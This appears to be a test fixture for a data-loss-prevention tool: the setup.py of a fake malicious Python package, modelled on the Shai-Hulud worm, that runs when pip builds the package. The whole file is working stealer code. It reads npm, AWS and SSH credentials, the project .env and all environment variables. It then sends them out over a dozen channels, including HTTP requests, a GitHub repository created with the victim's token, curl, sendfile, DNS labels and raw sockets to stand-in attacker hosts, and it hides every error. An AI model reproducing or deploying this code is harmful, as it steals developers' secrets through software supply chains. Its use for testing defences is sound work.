# worm.py - the setup.py of a malicious sdist (t/e2e/500-shai-hulud.sh): the
# same collection and channels as worm.js, from Python, run by pip while it
# builds the package. Never fails the build. Appends "CHANNEL sent|blocked
# DETAIL" to $DLP_T_WORM_OUT/results and stages the loot in
# $DLP_T_WORM_OUT/loot-py.json (the test's view).
import base64, gzip, json, os, socket, ssl, subprocess, tempfile, threading
import urllib.parse, urllib.request

OUT = os.environ.get("DLP_T_WORM_OUT", tempfile.gettempdir())
DROP, API, EVIL, EVILIP, RAWPORT = ("objects.githubusercontent.com", "api.github.com",
                                    "exfil.attacker.test", "10.99.0.3", 4444)
T = "py"


def rd(p):
    try:
        with open(os.path.expanduser(p)) as f:
            return f.read()
    except OSError:
        return ""


proj = os.environ.get("PWD", os.getcwd())
loot = {"npmrc": rd("~/.npmrc"), "aws": rd("~/.aws/credentials"), "ssh": rd("~/.ssh/id_ed25519"),
        "dotenv": rd(os.path.join(proj, ".env")), "env": dict(os.environ)}
J = json.dumps(loot).encode()
S = "\n".join([loot["npmrc"], loot["aws"], loot["ssh"], loot["dotenv"]] +
              [v for v in os.environ.values() if len(v) >= 16 and not any(c in v for c in "/ :")])
with open(os.path.join(OUT, "loot-py.json"), "wb") as f:
    f.write(J)
stage = os.path.join(tempfile.gettempdir(), ".shl-py-%d.json" % os.getpid())
with open(stage, "wb") as f:
    f.write(J)
LOCK = threading.Lock()


def note(chan, ok, detail):
    with LOCK, open(os.path.join(OUT, "results"), "a") as f:
        f.write("%s-%s %s %s\n" % (T, chan, "sent" if ok else "blocked", " ".join(str(detail).split())[:100]))


def req(chan, method, path, body=None, headers=None, host=DROP):
    h = {"User-Agent": "%s-%s" % (T, chan)}
    h.update(headers or {})
    try:
        r = urllib.request.urlopen(urllib.request.Request("https://%s%s" % (host, path), data=body,
                                                          headers=h, method=method), timeout=10)
        return True, r.status, r.read()
    except Exception as e:  # noqa: a worm swallows everything
        return False, type(e).__name__ + " " + str(getattr(e, "reason", e))[:40], b""


def one(chan, *a, **k):
    ok, st, body = req(chan, *a, **k)
    note(chan, ok, st)
    return ok, body


def split():
    ok = n = 0
    for i in range(0, len(S), 24):
        n += 1
        ok += req("split", "GET", "/py-split/%d/%s" % (i // 24, urllib.parse.quote(S[i:i + 24], safe="")))[0]
    note("split", ok == n, "%d/%d requests" % (ok, n))


def github():
    tok = os.environ.get("GITHUB_TOKEN", "")
    auth = {"Authorization": "token " + tok, "Content-Type": "application/json"}
    ok, body = one("github-create", "POST", "/user/repos",
                   json.dumps({"name": "Shai-Hulud-py"}).encode(), auth, host=API)
    content = base64.b64encode(base64.b64encode(J)).decode()
    one("github-upload", "PUT", "/repos/victim/Shai-Hulud-py/contents/data.json",
        json.dumps({"message": "x", "content": content}).encode(), auth, host=API)


def curl():
    p = subprocess.run(["curl", "-s", "-m", "10", "-o", "/dev/null", "-w", "%{http_code}",
                        "--data-binary", "@" + stage, "https://%s/py-curl" % DROP],
                       capture_output=True, text=True, timeout=20)
    note("curl", p.stdout.strip() == "200", p.stdout.strip() or p.returncode)


def sendfile():
    f = os.path.expanduser("~/.aws/credentials")
    try:
        s = socket.create_connection((DROP, 443), timeout=10)
        t = ssl.create_default_context().wrap_socket(s, server_hostname=DROP)
        t.sendall(b"POST /py-sendfile HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n"
                  % (DROP.encode(), os.path.getsize(f)))
        with open(f, "rb") as fh:
            t.sendfile(fh)   # TLS: the socket module falls back to send()
        r = t.recv(100)
        note("sendfile", r.split()[1:2] == [b"200"], r[9:12].decode("latin-1") or "reset")
    except OSError as e:
        note("sendfile", False, "error %s" % e.errno)
    # and in clear, with the kernel's sendfile
    try:
        s = socket.create_connection((DROP, 80), timeout=10)
        s.sendall(b"POST /py-sendfile-plain HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n\r\n"
                  % (DROP.encode(), os.path.getsize(f)))
        with open(f, "rb") as fh:
            os.sendfile(s.fileno(), fh.fileno(), 0, os.path.getsize(f))
        r = s.recv(100)
        note("sendfile-plain", r.split()[1:2] == [b"200"], r[9:12].decode("latin-1") or "reset")
    except OSError as e:
        note("sendfile-plain", False, "error %s" % e.errno)


def dnslabels():
    h = S.encode().hex()
    ok = n = 0
    for i in range(0, len(h), 60):
        n += 1
        try:
            socket.getaddrinfo("%d-%s.py-dns.attacker.test" % (i // 60, h[i:i + 60]), 80, socket.AF_INET)
            ok += 1
        except OSError:
            pass
    note("dns", ok > 0, "%d/%d answered" % (ok, n))


def raw(chan, host):
    try:
        s = socket.create_connection((host, RAWPORT), timeout=10)
        s.sendall(("py-%s\n" % chan).encode() + J)
        s.close()
        note(chan, True, "written")
    except OSError as e:
        note(chan, False, "error %s" % e.errno)


def worm():
    jobs = [("post-b64", lambda: one("post-b64", "POST", "/py-post-b64", base64.b64encode(J))),
            ("post-gzip", lambda: one("post-gzip", "POST", "/py-post-gzip", gzip.compress(J),
                                      {"Content-Encoding": "gzip"})),
            ("header", lambda: one("header", "GET", "/py-header", None,
                                   {"X-Debug-Data": base64.b64encode(J).decode()})),
            ("query", lambda: one("query", "GET", "/py-query?d=" + urllib.parse.quote(base64.b64encode(J)))),
            ("split", split), ("github-upload", github), ("curl", curl),
            ("sendfile", sendfile), ("sendfile-plain", sendfile), ("dns", dnslabels),
            ("raw-name", lambda: raw("raw-name", EVIL)), ("raw-ip", lambda: raw("raw-ip", EVILIP))]
    # DLP_T_WORM_ONLY=py-CHANNEL: that channel alone (the test's one-session-per-channel runs)
    only = os.environ.get("DLP_T_WORM_ONLY", "")
    if only:
        jobs = [(n, f) for n, f in jobs if "py-" + n == only]
    else:
        jobs = [(n, f) for n, f in jobs if n != "sendfile-plain"]   # sendfile() does both
    ts = [threading.Thread(target=f) for _, f in jobs]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    try:
        os.unlink(stage)
    except OSError:
        pass


try:
    worm()
except Exception as e:  # noqa
    note("worm", False, "crashed %s" % e)
